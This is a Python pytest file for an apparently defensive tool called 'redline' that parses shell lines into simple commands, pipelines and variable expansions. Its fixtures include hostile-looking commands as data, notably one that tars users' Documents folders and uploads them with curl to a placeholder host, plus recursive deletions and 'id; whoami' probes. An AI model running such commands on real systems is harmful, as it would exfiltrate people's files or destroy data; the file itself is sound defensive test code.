"""A command line cut into its simple commands as the shell cuts it (`shell.simple_commands`),
the variables it expands (`shell.variable_expansions`) and the line around a position
(`capabilities.line_at`): one reading for every module that looks at a line's commands."""

from __future__ import annotations

import time

import pytest

from redline.redlines.capabilities import line_at
from redline.redlines.shell import simple_commands, variable_expansions


def _words(text: str) -> list[list[str]]:
    return [[word.value for word in command.words] for command in simple_commands(text)]


@pytest.mark.parametrize(
    ("line", "words"),
    [
        (
            'curl -F "f=@x.tgz" "https://h.example/u?a=1&b=2" -T -',
            [["curl", "-F", "f=@x.tgz", "https://h.example/u?a=1&b=2", "-T", "-"]],
        ),
        ("grep 'a; b' /etc/cron.d/x # look; then", [["grep", "a; b", "/etc/cron.d/x"]]),
        ('ls "/tmp/.x #1" && rm -r /tmp/.x\\;y', [["ls", "/tmp/.x #1"], ["rm", "-r", "/tmp/.x;y"]]),
        (
            "echo `date` $(id; whoami)",
            [["echo", "`date`", "$(id; whoami)"], ["date"], ["id"], ["whoami"]],
        ),
        (
            "FOO='a b' nice cmd x 2>/dev/null | tee out",
            [["FOO=a b", "nice", "cmd", "x"], ["tee", "out"]],
        ),
        ('a=ba;b="sh"; export C=1', [["a=ba"], ["b=sh"], ["export", "C=1"]]),
        ("(cd /srv && make) || echo failed", [["cd", "/srv"], ["make"], ["echo", "failed"]]),
    ],
)
def test_a_line_is_cut_as_the_shell_cuts_it(line: str, words: list[list[str]]) -> None:
    assert _words(line) == words


def test_spans_and_pipelines() -> None:
    line = "tar czf - /home/*/Documents | curl -T - 'https://h/u?a=1&b=2' > log; echo é | wc -c"
    commands = simple_commands(line)
    assert [line[c.start : c.end] for c in commands] == [
        "tar czf - /home/*/Documents",
        "curl -T - 'https://h/u?a=1&b=2' > log",
        "echo é",
        "wc -c",
    ]
    assert [c.pipeline for c in commands] == [0, 0, 1, 1]
    for command in commands:
        for word in command.words:
            assert command.start <= word.start < word.end <= command.end


@pytest.mark.parametrize(
    "fragment",
    [
        'echo "unclosed; rm -rf /x | y',
        "curl -T - 'https://x/u?a=1&b=2; rm",
        'x=1; "abc def',
        "$(",
        "`",
        "'",
        "\\",
    ],
)
def test_a_fragment_never_raises_and_an_unclosed_quote_runs_to_the_end(fragment: str) -> None:
    commands = simple_commands(fragment)
    if fragment.startswith(("echo", "curl")):
        assert len(commands) == 1
        assert commands[0].end == len(fragment)


@pytest.mark.parametrize(
    "unit",
    ["echo 'a;b' \"c&d\" $(x) `y` e\\;f | g 2>&1 | h; ", "echo $(", "'unclosed \"", "a=1 b=$c; "],
)
def test_the_reading_is_linear_in_the_line(unit: str) -> None:
    """The walk over the parse (tree-sitter's own parse is shared with every reading of the
    line), in this thread's CPU time (a shared machine's waits left out), least of three."""

    def cost(n: int) -> float:
        line = unit * n
        simple_commands(line)  # parsed, and the parse kept
        times = []
        for _ in range(3):
            started = time.thread_time()
            simple_commands(line)
            times.append(time.thread_time() - started)
        return min(times)

    cost(20)
    assert cost(1000) < 40 * max(cost(100), 1e-4)


def test_a_stage_redirected_stays_in_its_pipeline() -> None:
    line = "> out cmd a | b 2>&1 | c > d; x | y"
    commands = simple_commands(line)
    assert [line[c.start : c.end] for c in commands] == ["> out cmd a", "b 2>&1", "c > d", "x", "y"]
    assert [c.pipeline for c in commands] == [0, 0, 0, 1, 1]


def test_expansions_outside_single_quotes() -> None:
    line = "echo '$a$b' \"$c\"${d}$e # $f"
    assert [name for _, _, name in variable_expansions(line)] == ["c", "d", "e"]
    start, end, _ = variable_expansions(line)[1]
    assert line[start:end] == "${d}"


def test_line_at() -> None:
    text = "one\ntwo\n\nthree"
    assert line_at(text, 0) == (0, 3)
    assert line_at(text, 5) == (4, 7)
    assert line_at(text, 7) == (4, 7)
    assert line_at(text, 8) == (8, 8)
    assert line_at(text, len(text)) == (9, len(text))
